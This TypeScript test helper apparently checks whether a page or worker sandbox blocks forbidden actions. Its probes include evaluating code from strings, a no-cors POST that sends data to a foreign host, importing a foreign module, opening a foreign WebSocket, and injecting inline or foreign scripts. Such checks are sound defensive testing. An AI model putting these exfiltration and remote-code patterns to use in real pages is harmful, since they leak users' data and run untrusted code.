// What a script that should not be there would try. Both functions are sent into a page or worker, so they may use
// nothing from around them. They say for each attempt whether it went through.

export type Outcomes = Record<string, 'blocked' | 'went through'>;

export async function tryAsScript(foreign: string): Promise<Outcomes> {
  // Leaves the call of the debugger, within which code from strings would be let through.
  await new Promise((resolve) => setTimeout(resolve));
  const attempt = async (work: () => unknown) => {
    try {
      await work();
      return 'went through';
    } catch {
      return 'blocked';
    }
  };
  return {
    'code from text': await attempt(() => (0, eval)('1')),
    'a function from text': await attempt(() => new Function('return 1')()),
    'a foreign fetch': await attempt(() => fetch(`${foreign}fetch`)),
    'a foreign fetch that hides its answer': await attempt(() =>
      fetch(`${foreign}hidden`, { mode: 'no-cors' }),
    ),
    'sending data away': await attempt(() =>
      fetch(`${foreign}send`, { method: 'POST', mode: 'no-cors', body: 'answers' }),
    ),
    'a foreign module': await attempt(() => import(`${foreign}module.js`)),
    'a foreign socket': await attempt(
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(foreign.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    ),
  };
}

export async function tryAsPage(foreign: string): Promise<Outcomes> {
  await new Promise((resolve) => setTimeout(resolve));
  const marks = globalThis as unknown as { canary?: boolean };
  // Whether what the work put into the page ran or loaded by the time it ended one way or the other.
  const attempt = async (work: () => Element) => {
    delete marks.canary;
    try {
      const element = work();
      await new Promise((resolve, reject) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', reject);
        document.body.append(element);
        // What is not fetched has no load: it ran when it was put into the page, or not at all.
        setTimeout(marks.canary ? resolve : reject, 500);
      });
      return 'went through';
    } catch {
      return marks.canary ? 'went through' : 'blocked';
    }
  };
  const make = (tag: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    if (text) element.append(text);
    return element;
  };
  const outcomes: Outcomes = {
    'an inline script': await attempt(() => make('script', {}, 'globalThis.canary = true')),
    'an inline handler': await attempt(() => {
      const button = make('button', { onclick: 'globalThis.canary = true' });
      button.click();
      return button;
    }),
    'markup from text': await attempt(() => {
      const box = document.createElement('div');
      box.innerHTML = '<b>bold</b>';
      marks.canary = true;
      return box;
    }),
    'a foreign script': await attempt(() => make('script', { src: `${foreign}script.js` })),
    'a foreign image': await attempt(() => make('img', { src: `${foreign}image.png` })),
    'a foreign style': await attempt(() =>
      make('link', { rel: 'stylesheet', href: `${foreign}style.css` }),
    ),
  };
  // A frame says that it loaded also when it was blocked; whether it was, the foreign server knows.
  const frame = make('iframe', { src: `${foreign}frame.html` });
  await new Promise((resolve) => {
    frame.addEventListener('load', resolve);
    document.body.append(frame);
  });
  return outcomes;
}
